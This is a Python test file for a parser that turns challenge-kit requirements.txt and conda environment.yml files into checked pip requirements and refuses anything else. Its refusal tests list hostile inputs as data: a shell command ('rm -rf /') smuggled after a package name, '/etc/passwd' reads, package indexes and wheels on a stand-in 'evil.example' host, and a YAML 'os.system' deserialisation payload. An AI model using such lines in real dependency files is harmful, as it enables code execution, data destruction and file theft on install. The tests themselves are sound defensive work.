"""What a kit needs to be installed, read from text; and what is refused."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from packaging.requirements import Requirement

from shared.execution.environments.conda import CondaError, from_conda
from shared.execution.environments.requirements import RequirementsError, requirements_of


def kit(folder: Path, **files: str) -> Path:
    for name, content in files.items():
        (folder / name.replace("__", ".")).write_text(content)
    return folder


def test_an_organisers_own_text_counts_more_than_the_kits_files(tmp_path: Path) -> None:
    kit(tmp_path, requirements__txt="pandas", environment__yml="dependencies: [scipy]")
    assert requirements_of(tmp_path, "xgboost>=1.7 # trees\n\n# nothing\n").lines == ("xgboost>=1.7", "numpy")


def test_a_requirements_file_counts_more_than_an_environment_file(tmp_path: Path) -> None:
    kit(tmp_path, requirements__txt="numpy\npandas[excel]<3; python_version >= '3.9'", environment__yml="dependencies: [scipy]")
    assert requirements_of(tmp_path).lines == ("numpy", 'pandas[excel]<3; python_version >= "3.9"')


def test_a_kit_without_any_gets_the_usual_ones_and_what_it_imports(tmp_path: Path) -> None:
    kit(tmp_path, problem__py="import rampwf as rw\nfrom palio.workflows import Classifier")
    assert requirements_of(tmp_path).lines == ("numpy", "pandas", "scikit-learn", "ramp-workflow", "palio")


def test_the_contract_is_added_only_where_it_is_missing(tmp_path: Path) -> None:
    kit(tmp_path, problem__py="import rampwf as rw", requirements__txt="Ramp_Workflow==0.7.0\nnumpy")
    assert requirements_of(tmp_path).lines == ("Ramp_Workflow==0.7.0", "numpy")


def test_a_problem_that_does_not_parse_adds_nothing(tmp_path: Path) -> None:
    kit(tmp_path, problem__py="import rampwf (", requirements__txt="numpy")
    assert requirements_of(tmp_path).lines == ("numpy",)


@pytest.mark.parametrize(
    "line",
    [
        "-e ./x",
        "-r /etc/passwd",
        "--extra-index-url https://evil.example/simple",
        "--find-links /tmp",
        "x @ file:///etc/passwd",
        "x @ https://evil.example/x.whl",
        "git+https://evil.example/x.git",
        "https://evil.example/x.whl",
        "./x.whl",
        "/tmp/x.whl",
        "numpy --hash=sha256:00",
        "numpy; rm -rf /",
        "numpy\\",
    ],
)
def test_anything_but_names_and_versions_is_refused_with_its_line(line: str, tmp_path: Path) -> None:
    with pytest.raises(RequirementsError, match=r"the requirements, line 2: .* is refused"):
        requirements_of(tmp_path, f"numpy\n{line}\n")
    kit(tmp_path, environment__yml=f"dependencies:\n  - pip:\n    - '{line}'\n")
    with pytest.raises(RequirementsError, match=r"environment\.yml"):
        requirements_of(tmp_path)


@given(st.text(max_size=200))
def test_whatever_is_written_nothing_but_checked_requirements_comes_out(text: str) -> None:
    try:
        lines = requirements_of(Path("/nonexistent"), text).lines
    except RequirementsError:
        return
    for line in lines:
        assert "\n" not in line
        assert not line.startswith("-")
        assert Requirement(line).url is None


def test_an_environment_file_of_a_ramp_kit_becomes_requirements(tmp_path: Path) -> None:
    kit(
        tmp_path,
        environment__yml="""
name: kit
channels: [conda-forge]
dependencies:
  - python=3.10
  - numpy
  - scikit-learn=1.3
  - pandas>=1.5,<2
  - conda-forge::py-xgboost==1.7.6
  - pytorch
  - matplotlib-base
  - pip
  - mkl
  - r-ggplot2
  - pip:
      - lightgbm
      - https://api.github.com/repos/paris-saclay-cds/ramp-workflow/zipball/master
""",
    )
    found = requirements_of(tmp_path)
    assert found.lines == (
        "numpy",
        "scikit-learn==1.3.*",
        "pandas<2,>=1.5",
        "xgboost==1.7.6",
        "torch",
        "matplotlib",
        "lightgbm",
        "ramp-workflow",
    )
    assert found.python == "==3.10.*"
    assert any("mkl" in note for note in found.notes)
    assert any("r-ggplot2" in note for note in found.notes)
    assert any("zipball" in note for note in found.notes)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "- a",
        "dependencies: numpy",
        "dependencies: [{conda: [x]}]",
        "dependencies: [{pip: numpy}]",
        "a: &a [1]\ndependencies: *a",
        "dependencies: [1: 2",
        "!!python/object/apply:os.system [id]",
        "dependencies: ['numpy=bad version here too']",
    ],
)
def test_an_environment_file_that_makes_no_sense_is_refused(text: str, tmp_path: Path) -> None:
    kit(tmp_path, environment__yml=text)
    with pytest.raises(RequirementsError, match=r"environment\.yml"):
        requirements_of(tmp_path)


def test_files_that_are_too_large_or_no_text_are_refused(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_bytes(b"\xff\xfe")
    with pytest.raises(RequirementsError, match="not UTF-8"):
        requirements_of(tmp_path)
    (tmp_path / "requirements.txt").write_bytes(b"#" * 200_000)
    with pytest.raises(RequirementsError, match="larger"):
        requirements_of(tmp_path)


@pytest.mark.parametrize(
    ("entry", "requirement"),
    [
        ("numpy", "numpy"),
        ("numpy=1.20", "numpy==1.20.*"),
        ("numpy==1.20.3", "numpy==1.20.3"),
        ("numpy=1.20.3=py39_0", "numpy==1.20.3.*"),
        ("numpy==1.20.3=py39_0", "numpy==1.20.3"),
        ("numpy 1.20", "numpy==1.20.*"),
        ("numpy=1.20.*", "numpy==1.20.*"),
        ("numpy >=1.20, <2", "numpy>=1.20,<2"),
        ("numpy=*", "numpy"),
        ("numpy=*=py39_0", "numpy"),
        ("numpy *", "numpy"),
        ("numpy>=1.8|<1.7", None),
        ("conda-forge::numpy>1", "numpy>1"),
        ("conda-forge/linux-64::numpy", "numpy"),
        ("Keras-GPU", "keras"),
        ("faiss-cpu", "faiss-cpu"),
    ],
)
def test_conda_versions_become_pythons(entry: str, requirement: str | None) -> None:
    if requirement is None:
        with pytest.raises(CondaError, match="numpy"):
            from_conda(entry)
    else:
        assert from_conda(entry).requirement == requirement


@given(st.text(max_size=40))
def test_any_conda_entry_is_converted_or_refused(entry: str) -> None:
    try:
        converted = from_conda(entry)
    except CondaError:
        return
    assert sum(part is not None for part in (converted.requirement, converted.python, converted.reason)) == 1
